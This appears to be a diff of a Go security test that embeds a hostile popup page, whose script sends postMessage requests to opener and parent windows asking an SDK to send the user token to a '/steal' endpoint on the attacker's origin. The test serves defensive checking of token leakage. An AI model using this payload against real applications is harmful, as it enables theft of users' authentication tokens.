@@ -311,9 +311,9 @@ func newHostile(t *testing.T) *hostile {
 // hostilePage asks the SDK to send the user token here, in every way that a page in a popup has.
 const hostilePage = `<!doctype html><title>Hostile</title><script>
 const ask = {messageType: "SDK_FUNCTION_INVOCATION", type: "sendConnectRequest", id: "1",
-  parameters: ["/steal", {method: "GET"}, "", location.origin]}
-const windows = [window.opener, window.open("", "_parent"), window.parent === window ? null : window.parent].filter(w => w && w !== window)
-for (const w of windows) for (const type of ["sendConnectRequest", "getUser"]) w.postMessage({...ask, type, baseURLOverride: location.origin}, "*")
+  parameters: ["/steal", {method: "GET", baseURLOverride: location.origin}, false]}
+const windows = [window.opener, window.open("", "_parent"), window.parent].filter(w => w && w !== window)
+for (const w of windows) w.postMessage(ask, "*")
 fetch("/report?report=" + (window.opener ? "opener" : "alone") + "," + windows.length + "," + document.referrer)
 document.title = "done"
 </script>`
